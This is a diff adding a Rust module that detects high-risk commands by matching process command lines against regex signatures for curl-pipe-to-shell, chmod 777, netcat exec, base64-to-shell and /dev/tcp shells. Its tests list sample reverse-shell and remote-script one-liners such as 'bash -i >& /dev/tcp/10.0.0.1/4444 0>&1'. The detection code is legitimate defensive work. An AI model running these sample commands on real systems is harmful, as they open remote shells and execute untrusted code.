@@ -0,0 +1,199 @@
+//! High-risk command detection from exec arguments
+//!
+//! The exec probes capture only `comm`, so arguments are read from
+//! `/proc/<pid>/cmdline` when the exec event is handled, on the blocking
+//! pool. Processes that exit before the read are missed rather than guessed
+//! at. Matching uses a curated
+//! built-in signature set plus user-supplied regexes from the rules file,
+//! compiled into one [`PatternSet`] when the rule is loaded.
+
+use anyhow::anyhow;
+use serde::Deserialize;
+
+use crate::patterns::PatternSet;
+
+/// Built-in signatures: (id, description, regex).
+const BUILTIN_SIGNATURES: &[(&str, &str, &str)] = &[
+    (
+        "curl_pipe_shell",
+        "remote script piped into a shell",
+        r"\b(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(\S*/)?(ba|da|z|k)?sh\b",
+    ),
+    (
+        "chmod_world_writable",
+        "world-writable permissions",
+        r"\bchmod\s+(-[a-zA-Z]+\s+)*(0?777|a\+rwx|ugo\+rwx)\b",
+    ),
+    (
+        "netcat_exec",
+        "netcat spawning a program",
+        r"\b(nc|ncat|netcat)(\.\w+)?\s(.*\s)?(-[a-zA-Z]*[ec]|--exec|--sh-exec)\b",
+    ),
+    (
+        "base64_exec",
+        "base64-decoded payload piped into a shell",
+        r"\bbase64\s+(-\w*d\w*|--decode)\b.*\|\s*(sudo\s+)?(\S*/)?(ba|da|z|k)?sh\b",
+    ),
+    (
+        "dev_tcp_shell",
+        "shell redirected to a /dev/tcp socket",
+        r"/dev/(tcp|udp)/[^/\s]+/\d+",
+    ),
+];
+
+/// User-defined signature from the rules file.
+#[derive(Debug, Clone, Deserialize)]
+pub struct ExecPattern {
+    pub id: String,
+    pub regex: String,
+    #[serde(default)]
+    pub description: Option<String>,
+}
+
+#[derive(Debug, Clone)]
+pub struct Signature {
+    pub id: String,
+    pub description: String,
+}
+
+#[derive(Debug, Clone)]
+pub struct ExecRiskMatcher {
+    signatures: Vec<Signature>,
+    /// One pattern per signature, in the same order
+    patterns: PatternSet,
+}
+
+impl ExecRiskMatcher {
+    /// Compile the built-in set (when `builtin` is set) followed by `custom`.
+    pub fn new(builtin: bool, custom: &[ExecPattern]) -> anyhow::Result<Self> {
+        let mut signatures = Vec::new();
+        let mut regexes = Vec::new();
+        if builtin {
+            for (id, description, pattern) in BUILTIN_SIGNATURES {
+                signatures.push(Signature {
+                    id: (*id).to_string(),
+                    description: (*description).to_string(),
+                });
+                regexes.push(*pattern);
+            }
+        }
+        for pattern in custom {
+            signatures.push(Signature {
+                id: pattern.id.clone(),
+                description: pattern
+                    .description
+                    .clone()
+                    .unwrap_or_else(|| format!("matches {}", pattern.regex)),
+            });
+            regexes.push(pattern.regex.as_str());
+        }
+        let patterns = PatternSet::regexes(&regexes).map_err(|e| match e.index {
+            Some(index) => anyhow!(
+                "invalid regex for exec pattern {}: {}",
+                signatures[index].id,
+                e.message
+            ),
+            None => anyhow!("exec patterns: {}", e.message),
+        })?;
+        Ok(Self {
+            signatures,
+            patterns,
+        })
+    }
+
+    /// First signature matching the space-joined command line.
+    pub fn find(&self, cmdline: &str) -> Option<&Signature> {
+        self.patterns
+            .first_match(cmdline)
+            .map(|index| &self.signatures[index])
+    }
+
+    pub fn len(&self) -> usize {
+        self.signatures.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.signatures.is_empty()
+    }
+}
+
+/// Arguments of a running process joined with spaces, or `None` once it
+/// has exited (or is a kernel thread).
+pub fn read_cmdline(pid: u32) -> Option<String> {
+    read_args(pid).map(|args| args.join(" "))
+}
+
+/// Arguments of a running process, argv[0] first.
+pub fn read_args(pid: u32) -> Option<Vec<String>> {
+    let raw = std::fs::read(format!("/proc/{pid}/cmdline")).ok()?;
+    let args: Vec<String> = raw
+        .split(|b| *b == 0)
+        .filter(|arg| !arg.is_empty())
+        .map(|arg| String::from_utf8_lossy(arg).into_owned())
+        .collect();
+    if args.is_empty() { None } else { Some(args) }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn matched(matcher: &ExecRiskMatcher, cmdline: &str) -> Option<String> {
+        matcher.find(cmdline).map(|s| s.id.clone())
+    }
+
+    #[test]
+    fn builtin_signatures_flag_risky_commands() {
+        let m = ExecRiskMatcher::new(true, &[]).unwrap();
+        for (cmdline, id) in [
+            (
+                "sh -c curl -fsSL https://get.example.io/install.sh | sh",
+                "curl_pipe_shell",
+            ),
+            (
+                "bash -c wget -qO- http://x/y | sudo bash",
+                "curl_pipe_shell",
+            ),
+            ("chmod -R 777 /var/www", "chmod_world_writable"),
+            ("chmod a+rwx /etc/shadow", "chmod_world_writable"),
+            ("nc -e /bin/sh 10.0.0.1 4444", "netcat_exec"),
+            ("ncat --exec /bin/bash 10.0.0.1 4444", "netcat_exec"),
+            ("sh -c echo ZWNobwo= | base64 -d | bash", "base64_exec"),
+            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "dev_tcp_shell"),
+        ] {
+            assert_eq!(matched(&m, cmdline).as_deref(), Some(id), "{cmdline}");
+        }
+        for benign in [
+            "curl -o out.tar.gz https://example.io/a.tar.gz",
+            "chmod 755 /usr/local/bin/tool",
+            "nc -zv db 5432",
+            "base64 -d secret.b64",
+            "sshd: root@pts/0",
+        ] {
+            assert_eq!(matched(&m, benign), None, "{benign}");
+        }
+    }
+
+    #[test]
+    fn custom_patterns_extend_or_replace_builtins() {
+        let custom = vec![ExecPattern {
+            id: "kubectl_exec".into(),
+            regex: r"\bkubectl\s+exec\b".into(),
+            description: None,
+        }];
+        let m = ExecRiskMatcher::new(false, &custom).unwrap();
+        assert_eq!(m.len(), 1);
+        assert_eq!(
+            matched(&m, "kubectl exec -it pod -- sh").as_deref(),
+            Some("kubectl_exec")
+        );
+        assert_eq!(matched(&m, "chmod 777 /tmp/x"), None);
+
+        let bad = vec![ExecPattern {
+            id: "broken".into(),
+            regex: "(".into(),
+            description: None,
+        }];
+        assert!(ExecRiskMatcher::new(true, &bad).is_err());
+    }
+}